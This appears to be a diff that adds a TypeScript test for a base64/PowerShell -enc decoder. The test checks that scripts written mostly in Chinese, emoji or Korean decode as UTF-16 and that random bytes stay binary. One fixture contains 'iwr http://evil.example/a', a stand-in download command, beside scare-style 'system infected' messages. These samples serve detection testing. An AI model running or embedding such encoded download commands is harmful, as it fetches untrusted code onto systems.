@@ -642,3 +642,25 @@ test("PowerShell -enc with text beyond ASCII (a Cyrillic comment, typographic qu
   const binary = base64.unpack(Buffer.from(Uint8Array.from({ length: 64 }, (_, i) => (i * 37) % 256)).toString("base64"));
   assert.notEqual(binary.items[0]?.encodingType, "utf-16");
 });
+
+test("PowerShell -enc whose text is mostly Chinese or emoji is UTF-16 (it was binary); random bytes stay binary", () => {
+  for (const script of [
+    "Write-Host '\u8b66\u544a\uff1a\u60a8\u7684\u7cfb\u7edf\u5df2\u88ab\u611f\u67d3\uff0c\u8bf7\u7acb\u5373\u8054\u7cfb\u7ba1\u7406\u5458\u5904\u7406\u6b64\u95ee\u9898\u3002\u4e0b\u8f7d\u5730\u5740\u89c1\u4e0b\u6587'",
+    "echo \ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00",
+    "iwr http://evil.example/a; echo '\uc548\ub155\ud558\uc138\uc694 \uc2dc\uc2a4\ud15c\uc774 \uac10\uc5fc\ub418\uc5c8\uc2b5\ub2c8\ub2e4 \uad00\ub9ac\uc790\uc5d0\uac8c \uc5f0\ub77d\ud558\uc138\uc694 \uc9c0\uae08 \ubc14\ub85c'",
+  ]) {
+    const r = base64.unpack(`powershell -enc ${Buffer.from(script, "utf16le").toString("base64")}`);
+    assert.equal(r.items[0]?.encodingType, "utf-16", script);
+    assert.equal(r.items[0]?.decodedString, script);
+  }
+  // 2,000 random blobs of 16 to 200 bytes (a fixed seed): none read as UTF-16 text.
+  let seed = 12345;
+  const rand = (): number => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
+  let utf16 = 0;
+  for (let k = 0; k < 2000; k++) {
+    const n = 16 + 2 * Math.floor(rand() * 92);
+    const bytes = Uint8Array.from({ length: n }, () => Math.floor(rand() * 256));
+    if (base64.unpack(Buffer.from(bytes).toString("base64")).items[0]?.encodingType === "utf-16") utf16++;
+  }
+  assert.equal(utf16, 0);
+});
